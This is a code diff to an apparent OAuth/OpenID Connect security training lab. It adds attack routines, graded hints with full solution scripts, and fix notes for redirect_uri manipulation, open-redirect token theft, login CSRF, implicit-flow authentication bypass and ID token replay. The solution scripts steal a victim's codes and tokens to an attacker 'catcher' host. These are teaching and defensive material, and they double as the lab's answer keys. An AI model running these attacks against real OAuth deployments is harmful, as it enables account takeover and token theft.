@@ -18,7 +18,7 @@ import secrets
 import time
 import uuid
 from typing import Any
-from urllib.parse import parse_qs, urlsplit
+from urllib.parse import parse_qs, urlencode, urlsplit
 
 import httpx
 import jwt
@@ -301,7 +301,255 @@ def run_code_reuse(lab: Any, http: httpx.Client) -> Observed:
     return Observed(False, second.status_code, "second use refused and the first tokens revoked")
 
 
+# -- the attacks through the victim's browser and PrintShop -------------------------------------
+
+
+def spa_authorize_url(lab: Any, redirect_uri: str, **extra: str) -> str:
+    """photo-spa's authorize link with ``redirect_uri`` (state and nonce fresh)."""
+    query = {
+        "response_type": "code",
+        "client_id": SPA,
+        "redirect_uri": redirect_uri,
+        "scope": "openid photos:read",
+        "state": secrets.token_urlsafe(12),
+        "nonce": secrets.token_urlsafe(12),
+        **extra,
+    }
+    return lab.net.issuer + "/authorize?" + urlencode(query)
+
+
+def share_link(lab: Any, http: httpx.Client, url: str) -> str:
+    """A PrintShop share link (any customer may make one) that leads to ``url``."""
+    answer = http.post(lab.net.client_url + "/share", data={"url": url})
+    return lab.net.client_url + answer.json()["link"]
+
+
+def redeem_at(
+    lab: Any, http: httpx.Client, code: str, redirect_uri: str, verifier: str
+) -> httpx.Response:
+    data = {
+        "grant_type": "authorization_code",
+        "code": code,
+        "client_id": SPA,
+        "redirect_uri": redirect_uri,
+        "code_verifier": verifier,
+    }
+    return http.post(lab.net.issuer + "/token", data=data)
+
+
+def run_redirect_uri(lab: Any, http: httpx.Client) -> Observed:
+    """RFC 9700 §4.1, §2.1: a redirect_uri matched by prefix (or by origin, or sub-path)
+    sends the victim's code to any page of the client's origin; one that forwards (here a
+    share link anyone can make) hands it to the attacker, who redeems it with his own PKCE."""
+    catcher = lab.net.catcher()
+    link = share_link(lab, http, catcher.url + "/steal")
+    registered = lab.net.clients[SPA]["redirect_uris"][0]
+    variants = (
+        ("a path below the registered one", f"{registered}/../..{urlsplit(link).path}"),
+        ("another page of the client's origin", link),
+    )
+    seen = []
+    for label, evil in variants:
+        verifier = secrets.token_urlsafe(48)
+        url = spa_authorize_url(
+            lab, evil, code_challenge=s256(verifier), code_challenge_method="S256"
+        )
+        answer = lab.net.victim.visit(url)
+        codes = catcher.values("code")
+        if not codes:
+            seen.append(f"{label}: no code reached the catcher (HTTP {answer.status_code})")
+            continue
+        tokens = redeem_at(lab, http, codes[-1], evil, verifier)
+        if granted(tokens) is None:
+            seen.append(f"{label}: the caught code was refused (HTTP {tokens.status_code})")
+            continue
+        owner = photos(lab, http, tokens.json()["access_token"]).json().get("owner")
+        return Observed(True, 200, f"{label}: bob's code caught and redeemed ({owner}'s photos)")
+    return Observed(False, 400, "; ".join(seen))
+
+
+def next_targets(lab: Any, catcher_url: str) -> list[str]:
+    """Where /next?url= is told to go: the catcher, spelled to slip past weak checks."""
+    netloc = urlsplit(catcher_url).netloc
+    return [
+        catcher_url + "/steal",
+        f"//{netloc}/steal",  # protocol-relative: "starts with a slash"
+        f"{lab.net.client_url}@{netloc}/steal",  # userinfo: "starts with our origin"
+    ]
+
+
+def run_open_redirect(lab: Any, http: httpx.Client) -> Observed:
+    """RFC 9700 §4.11.1 with §4.1: PrintShop's /next?url= forwards anywhere (with the
+    query, and the browser keeps the fragment), and the authorization server lets a
+    redirect_uri walk from the registered callback to it. The implicit flow's token rides
+    in the fragment; a code rides in the query."""
+    catcher = lab.net.catcher()
+    registered = lab.net.clients[SPA]["redirect_uris"][0]
+    seen = []
+    for target in next_targets(lab, catcher.url):
+        evil = f"{registered}/../../next?" + urlencode({"url": target})
+        verifier = secrets.token_urlsafe(48)
+        for response_type in ("token", "code"):
+            pkce = {"code_challenge": s256(verifier), "code_challenge_method": "S256"}
+            extra = pkce if response_type == "code" else {"scope": "photos:read"}
+            url = spa_authorize_url(lab, evil, response_type=response_type, **extra)
+            answer = lab.net.victim.visit(url)
+            token = None
+            if catcher.values("access_token"):
+                token = catcher.values("access_token")[-1]
+            elif catcher.values("code"):
+                tokens = redeem_at(lab, http, catcher.values("code")[-1], evil, verifier)
+                token = tokens.json().get("access_token") if tokens.status_code == 200 else None
+            if token:
+                owner = photos(lab, http, token).json().get("owner")
+                return Observed(
+                    True, 200, f"{response_type} via /next?url={target}: {owner}'s photos"
+                )
+            seen.append(f"{response_type} via {target}: HTTP {answer.status_code}")
+    return Observed(False, 400, "nothing reached the catcher: " + "; ".join(seen[:2]))
+
+
+def _attackers_link_callback(lab: Any) -> str:
+    """alice (the attacker) starts "link your photo account" at PrintShop and keeps the
+    callback link instead of following it."""
+    attacker = lab.net.browser("alice")
+    shop = lab.net.client_url
+    attacker.get(shop + "/login")
+    attacker.get(shop + "/link", stop_before=shop + "/shop/callback")
+    if attacker.url is None or "code=" not in attacker.url:
+        raise RuntimeError(f"the attacker's own link flow failed: {attacker.flow()}")
+    return attacker.url
+
+
+def run_login_csrf(lab: Any, http: httpx.Client) -> Observed:
+    """RFC 9700 §4.7, RFC 6749 §10.12: a callback the victim's browser did not start must
+    be refused (state bound to the session). Otherwise the attacker's callback link, sent
+    to bob, links bob's PrintShop account to the attacker's photo account: bob's uploads
+    and orders go there."""
+    link = _attackers_link_callback(lab)
+    victim = lab.net.browser("bob")
+    victim.get(lab.net.client_url + "/login")  # bob signed in at PrintShop
+    answer = victim.get(link)
+    prints = victim.get(lab.net.client_url + "/prints")
+    body = prints.json() if prints.status_code == 200 else {}
+    if body.get("shop_user") == "bob" and body.get("photo_account") == "alice":
+        return Observed(True, 200, "bob's PrintShop account is linked to alice's photos")
+    return Observed(False, answer.status_code, f"the foreign callback: HTTP {answer.status_code}")
+
+
+def _own_token(lab: Any, http: httpx.Client, user: str) -> str:
+    """``user``'s own photo-spa access token: the implicit flow if the AS allows it (the
+    token in the fragment), else code + PKCE."""
+    browser = lab.net.browser(user)
+    registered = lab.net.clients[SPA]["redirect_uris"][0]
+    browser.get(spa_authorize_url(lab, registered, response_type="token"), stop_before=registered)
+    fragment = parse_qs(urlsplit(browser.url or "").fragment)
+    if "access_token" in fragment:
+        return fragment["access_token"][0]
+    verifier = secrets.token_urlsafe(48)
+    url = spa_authorize_url(
+        lab, registered, code_challenge=s256(verifier), code_challenge_method="S256"
+    )
+    browser.get(url, stop_before=registered)
+    code = parse_qs(urlsplit(browser.url or "").query).get("code", [""])[0]
+    return str(redeem_at(lab, http, code, registered, verifier).json().get("access_token", ""))
+
+
+def run_implicit_flow(lab: Any, http: httpx.Client) -> Observed:
+    """RFC 9700 §2.1.2 (no implicit flow) and PortSwigger's "authentication bypass via
+    OAuth implicit flow": the old app posts the fragment's token *and the user it names*;
+    PrintShop signs in whoever is named, with the attacker's own valid token."""
+    token = _own_token(lab, http, "alice")
+    with httpx.Client(base_url=lab.net.client_url, timeout=10) as shop:
+        answer = shop.post("/spa/session", data={"access_token": token, "sub": "bob"})
+        prints = shop.get("/prints")
+    who = prints.json().get("shop_user") if prints.status_code == 200 else None
+    if who == "bob":
+        return Observed(True, 200, "alice's token posted with sub=bob: signed in as bob")
+    return Observed(False, answer.status_code, f"signed in as {who} (HTTP {answer.status_code})")
+
+
+def _id_token(lab: Any, http: httpx.Client, user: str, nonce: str) -> str | None:
+    """``user``'s photo-spa ID token from a code + PKCE login with ``nonce`` (None when the
+    login ends without one)."""
+    browser = lab.net.browser(user)
+    registered = lab.net.clients[SPA]["redirect_uris"][0]
+    verifier = secrets.token_urlsafe(48)
+    pkce = {"code_challenge": s256(verifier), "code_challenge_method": "S256"}
+    browser.get(spa_authorize_url(lab, registered, nonce=nonce, **pkce), stop_before=registered)
+    code = parse_qs(urlsplit(browser.url or "").query).get("code", [""])[0]
+    tokens = redeem_at(lab, http, code, registered, verifier)
+    return tokens.json().get("id_token") if tokens.status_code == 200 else None
+
+
+def run_nonce(lab: Any, http: httpx.Client) -> Observed:
+    """OIDC Core §3.1.3.7 step 11, RFC 9700 §4.5.3.2: bob's ID token from his own sign-in
+    (captured from a log, a leaked fragment, a malicious app) replayed into another sign-in
+    at PrintShop. Signature, issuer, audience and expiry all hold; only the nonce says it
+    was minted for another flow."""
+    stolen = _id_token(lab, http, "bob", secrets.token_urlsafe(12))
+    if stolen is None:
+        return Observed(False, 400, "bob's sign-in gave no ID token to replay")
+    seen = []
+    for label, ask_nonce in (("with a fresh nonce", True), ("without asking a nonce", False)):
+        with httpx.Client(base_url=lab.net.client_url, timeout=10) as shop:
+            if ask_nonce:
+                shop.get("/spa/nonce")
+            answer = shop.post("/spa/session", data={"id_token": stolen})
+            prints = shop.get("/prints")
+        who = prints.json().get("shop_user") if prints.status_code == 200 else None
+        if who == "bob":
+            return Observed(True, 200, f"bob's ID token replayed {label}: signed in as bob")
+        seen.append(f"{label}: HTTP {answer.status_code}")
+    return Observed(False, 401, "; ".join(seen))
+
+
 # -- the legitimate checks ---------------------------------------------------------------------
+
+
+def check_shop_login(lab: Any, http: httpx.Client) -> Observed:
+    browser = lab.net.browser("alice")
+    answer = browser.get(lab.net.client_url + "/prints")
+    body = answer.json() if answer.status_code == 200 else {}
+    ok = body.get("shop_user") == "alice" and "Lighthouse at dawn" in str(body.get("prints"))
+    return Observed(
+        ok, answer.status_code, f"alice at PrintShop /prints: {body or answer.text[:80]}"
+    )
+
+
+def check_shop_link(lab: Any, http: httpx.Client) -> Observed:
+    browser = lab.net.browser("alice")
+    browser.get(lab.net.client_url + "/login")
+    answer = browser.get(lab.net.client_url + "/link")
+    body = answer.json() if answer.status_code == 200 else {}
+    ok = body.get("photo_account") == "alice" and "flag" not in body
+    return Observed(
+        ok, answer.status_code, f"alice links her photo account: {body or answer.status_code}"
+    )
+
+
+def check_spa_id_token(lab: Any, http: httpx.Client) -> Observed:
+    with httpx.Client(base_url=lab.net.client_url, timeout=10) as shop:
+        nonce = shop.get("/spa/nonce").json()["nonce"]
+        id_token = _id_token(lab, http, "alice", nonce)
+        if id_token is None:
+            return Observed(False, 400, "alice's photo-spa login gave no ID token")
+        answer = shop.post("/spa/session", data={"id_token": id_token})
+        prints = shop.get("/prints")
+    who = prints.json().get("shop_user") if prints.status_code == 200 else None
+    ok = who == "alice" and "flag" not in prints.json()
+    return Observed(ok, answer.status_code, f"the old app's ID-token sign-in: signed in as {who}")
+
+
+def check_spa_token(lab: Any, http: httpx.Client) -> Observed:
+    with httpx.Client(base_url=lab.net.client_url, timeout=10) as shop:
+        answer = shop.post("/spa/session", data={"access_token": _own_token(lab, http, "alice")})
+        prints = shop.get("/prints")
+    body = prints.json() if prints.status_code == 200 else {}
+    ok = body.get("shop_user") == "alice" and "Lighthouse at dawn" in str(body.get("prints"))
+    return Observed(
+        ok, answer.status_code, f"the old app posts alice's token: {body.get('shop_user')}"
+    )
 
 
 def check_login(lab: Any, http: httpx.Client) -> Observed:
@@ -377,7 +625,7 @@ def check_api_scope(lab: Any, http: httpx.Client) -> Observed:
 # -- hint ladders: nudge, technique (with its reference), steps -----------------------------
 
 _LOGIN = '''import re, secrets, httpx
-from urllib.parse import parse_qs, urlsplit
+from urllib.parse import parse_qs, urlencode, urlsplit
 
 def alice_authorizes(params):
     """alice's browser: log in, allow everything; returns the query sent to the client."""
@@ -487,6 +735,146 @@ lab.check_flag("code-reuse", flag_reuse)
 }
 
 
+_SPA = """import base64, hashlib, secrets, httpx
+from urllib.parse import parse_qs, urlencode, urlsplit
+
+shop = lab.net.client_url
+registered = lab.net.clients["photo-spa"]["redirect_uris"][0]
+
+def authorize_url(redirect_uri, **extra):
+    query = {"response_type": "code", "client_id": "photo-spa", "redirect_uri": redirect_uri,
+             "scope": "openid photos:read", "state": secrets.token_urlsafe(8),
+             "nonce": secrets.token_urlsafe(8), **extra}
+    return lab.net.issuer + "/authorize?" + urlencode(query)
+
+def pkce():
+    verifier = secrets.token_urlsafe(48)
+    digest = hashlib.sha256(verifier.encode()).digest()
+    challenge = base64.urlsafe_b64encode(digest).rstrip(b"=").decode()
+    return verifier, {"code_challenge": challenge, "code_challenge_method": "S256"}
+
+def redeem(code, redirect_uri, verifier):
+    return httpx.post(lab.net.issuer + "/token", data={
+        "grant_type": "authorization_code", "code": code, "client_id": "photo-spa",
+        "redirect_uri": redirect_uri, "code_verifier": verifier})
+"""
+
+HINTS.update(
+    {
+        "redirect-uri": (
+            "The authorization server sends bob's code wherever the redirect_uri says, as "
+            "long as it *starts* like the registered one. Is every page on PrintShop's "
+            "origin a safe place for it?",
+            "Redirect URI manipulation (RFC 9700 §4.1, §2.1: exact string matching): make a "
+            "PrintShop share link (POST /share) to your catcher, send bob a photo-spa "
+            "authorize link whose redirect_uri walks from the registered callback to it "
+            "(registered + '/../../s/...'), with your own S256 challenge; redeem the code "
+            "the catcher gets.",
+            "```python\n"
+            + _SPA
+            + """catcher = lab.net.catcher()
+link = httpx.post(shop + "/share", data={"url": catcher.url + "/steal"}).json()["link"]
+evil = registered + "/../.." + link
+verifier, challenge = pkce()
+lab.net.victim.visit(authorize_url(evil, **challenge))
+print(lab.net.victim.flow())
+answer = redeem(catcher.values("code")[-1], evil, verifier)
+flag_redirect = answer.json()["flag"]
+lab.check_flag("redirect-uri", flag_redirect)
+```""",
+        ),
+        "open-redirect": (
+            "PrintShop's 'continue shopping' link, /next?url=, goes anywhere and keeps the "
+            "query; a browser keeps a URL's fragment across a redirect. What if the "
+            "authorization server sends bob's token there?",
+            "Open redirect chained with a loose redirect_uri (RFC 9700 §4.11.1, §4.1; "
+            "PortSwigger 'stealing OAuth access tokens via an open redirect'): send bob a "
+            "response_type=token link whose redirect_uri is registered + "
+            "'/../../next?url=<your catcher>'. The token rides in the fragment; the "
+            "catcher's page posts it back to you.",
+            "```python\n"
+            + _SPA
+            + """catcher = lab.net.catcher()
+evil = registered + "/../../next?" + urlencode({"url": catcher.url + "/steal"})
+lab.net.victim.visit(authorize_url(evil, response_type="token", scope="photos:read"))
+print(lab.net.victim.flow())
+stolen = catcher.values("access_token")[-1]
+auth = {"Authorization": "Bearer " + stolen}
+print(httpx.get(lab.net.api_url + "/photos", headers=auth).json())
+flag_open = catcher.values("flag")[-1]
+lab.check_flag("open-redirect", flag_open)
+```""",
+        ),
+        "login-csrf": (
+            "PrintShop's callback finishes whichever sign-in its link names. Does it check "
+            "that this browser is the one that started it?",
+            "Login CSRF / forced account linking (RFC 9700 §4.7, RFC 6749 §10.12): as "
+            "alice, start 'link your photo account' at PrintShop and stop before the "
+            "callback (browser.get(..., stop_before=callback)); send that callback link to "
+            "bob, who is signed in at PrintShop.",
+            """```python
+shop = lab.net.client_url
+attacker = lab.net.browser("alice")
+attacker.get(shop + "/login")
+attacker.get(shop + "/link", stop_before=shop + "/shop/callback")
+print(attacker.flow())
+lab.net.victim.sign_in_at_shop()
+lab.net.victim.visit(attacker.url)  # bob opens the link
+seen = lab.net.victim.visit(shop + "/prints").json()
+print(seen["shop_user"], "->", seen["photo_account"])
+flag_csrf = seen["flag"]
+lab.check_flag("login-csrf", flag_csrf)
+```""",
+        ),
+        "implicit-flow": (
+            "The old single-page app posts its token to /spa/session, and something more. "
+            "Which of the two does PrintShop believe about who you are?",
+            "Authentication bypass via the implicit flow (RFC 9700 §2.1.2; PortSwigger "
+            "'authentication bypass via OAuth implicit flow'): get your own photo-spa "
+            "access token (response_type=token puts it in the fragment) and post it to "
+            "PrintShop's /spa/session with sub=bob.",
+            "```python\n"
+            + _SPA
+            + """me = lab.net.browser("alice")
+me.get(authorize_url(registered, response_type="token"), stop_before=registered)
+print(me.url)  # the token is in the fragment
+token = parse_qs(urlsplit(me.url).fragment)["access_token"][0]
+with httpx.Client(base_url=shop) as b:
+    b.post("/spa/session", data={"access_token": token, "sub": "bob"})
+    seen = b.get("/prints").json()
+print(seen["shop_user"])
+flag_implicit = seen["flag"]
+lab.check_flag("implicit-flow", flag_implicit)
+```""",
+        ),
+        "nonce": (
+            "PrintShop's old app signs you in with an ID token it posts. The token's "
+            "signature, issuer, audience and expiry hold for any of bob's logins: what "
+            "ties it to *this* sign-in?",
+            "ID token replay (OIDC Core §3.1.3.7 step 11, RFC 9700 §4.5.3.2): take an ID "
+            "token from another of bob's flows (here his own login on a browser of his, "
+            "as if captured) and post it to /spa/session from your browser, after asking "
+            "/spa/nonce for a nonce of your own (or without).",
+            "```python\n"
+            + _SPA
+            + """bob = lab.net.browser("bob")
+verifier, challenge = pkce()
+bob.get(authorize_url(registered, **challenge), stop_before=registered)
+code = parse_qs(urlsplit(bob.url).query)["code"][0]
+captured = redeem(code, registered, verifier).json()["id_token"]
+with httpx.Client(base_url=shop) as b:
+    b.get("/spa/nonce")
+    b.post("/spa/session", data={"id_token": captured})
+    seen = b.get("/prints").json()
+print(seen["shop_user"])
+flag_nonce = seen["flag"]
+lab.check_flag("nonce", flag_nonce)
+```""",
+        ),
+    }
+)
+
+
 ATTACKS: tuple[Attack, ...] = (
     Attack(
         "pkce-missing",
@@ -526,6 +914,50 @@ ATTACKS: tuple[Attack, ...] = (
         fix="code_single_use let an already used code be redeemed again. Return False when "
         "already_used (RFC 6749 §4.1.2); the server then revokes the first tokens.",
     ),
+    Attack(
+        "redirect-uri",
+        "bob opens a photo-spa link whose redirect_uri walks from the callback to a "
+        "PrintShop share link to the attacker; the caught code is redeemed",
+        HINTS["redirect-uri"],
+        run_redirect_uri,
+        fix="check_redirect_uri let a redirect_uri through that is not one registered. "
+        "Compare the whole string for equality with a registered URI (RFC 9700 §2.1): no "
+        "prefix, no sub-path, no same-origin rule.",
+    ),
+    Attack(
+        "open-redirect",
+        "bob's token (implicit) or code sent through PrintShop's /next?url= to the attacker",
+        HINTS["open-redirect"],
+        run_open_redirect,
+        fix="allow_next let /next send the browser off PrintShop. Allow only a local path: "
+        "one leading slash, not '//' nor a backslash, no scheme or userinfo (RFC 9700 "
+        "§4.11.1).",
+    ),
+    Attack(
+        "login-csrf",
+        "alice's 'link your photo account' callback link, opened by bob at PrintShop",
+        HINTS["login-csrf"],
+        run_login_csrf,
+        fix="check_state accepted a callback this browser did not start. Require both "
+        "values and compare them (secrets.compare_digest); a session with no flow "
+        "(expected None) accepts none (RFC 9700 §4.7).",
+    ),
+    Attack(
+        "implicit-flow",
+        "alice posts her own token to PrintShop's /spa/session with sub=bob",
+        HINTS["implicit-flow"],
+        run_implicit_flow,
+        fix="implicit_user believed the user the page posted. Sign in the token's owner as "
+        "the authorization server's /userinfo names it, or nobody (RFC 9700 §2.1.2).",
+    ),
+    Attack(
+        "nonce",
+        "bob's ID token from his own sign-in replayed into another browser's sign-in",
+        HINTS["nonce"],
+        run_nonce,
+        fix="validate_id_token took an ID token minted for another flow. Require the flow's "
+        "nonce (None: refuse) and equality with the token's (OIDC Core §3.1.3.7 step 11).",
+    ),
 )
 
 CHECKS: tuple[Check, ...] = (
@@ -555,5 +987,29 @@ CHECKS: tuple[Check, ...] = (
         check_api_scope,
         hint="validate_access_token must accept a genuine access token for this API whose "
         "scope holds the route's (and whose aud may be a list).",
+    ),
+    Check(
+        "shop-login",
+        "alice signs in at PrintShop (code + state + nonce + PKCE) and sees her prints",
+        check_shop_login,
+        hint="PrintShop's own sign-in must still work: check_state equal and present, "
+        "validate_id_token with the flow's nonce, the exact registered callback.",
+    ),
+    Check(
+        "shop-link",
+        "alice links her photo account at PrintShop with a proper state",
+        check_shop_link,
+    ),
+    Check(
+        "spa-id-token",
+        "the old app signs alice in with an ID token carrying PrintShop's nonce",
+        check_spa_id_token,
+        hint="validate_id_token must accept an ID token whose nonce is the flow's.",
+    ),
+    Check(
+        "spa-token",
+        "the old app posts alice's own token: she is signed in as herself",
+        check_spa_token,
+        hint="implicit_user must sign in the user /userinfo names for the posted token.",
     ),
 )
